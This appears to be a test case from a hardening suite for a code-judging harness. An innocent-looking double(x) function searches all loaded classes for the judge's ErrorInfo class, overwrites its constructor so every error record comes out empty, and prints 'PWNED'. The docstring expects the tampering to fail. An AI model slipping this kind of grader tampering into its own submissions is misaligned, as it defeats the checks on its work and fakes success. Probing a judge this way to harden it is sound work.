"""Issue 21, class 4: change a class the harness builds its records with (found without importing it).

Assigning a class attribute is not audited; the judge's classes are immutable in the child.
"""


def _classes(root):
    todo, seen = [root], []
    while todo:
        cls = todo.pop()
        seen.append(cls)
        try:
            todo.extend(cls.__subclasses__())
        except TypeError:
            pass
    return seen


def double(x):
    for cls in _classes(object):
        if cls.__name__ == "ErrorInfo" and cls.__module__.startswith("judge"):
            try:
                cls.__init__ = lambda self, *a, **k: None  # every record the harness builds would be empty
            except TypeError:
                continue
            print("PWNED: patched", cls, flush=True)
    return x * 2
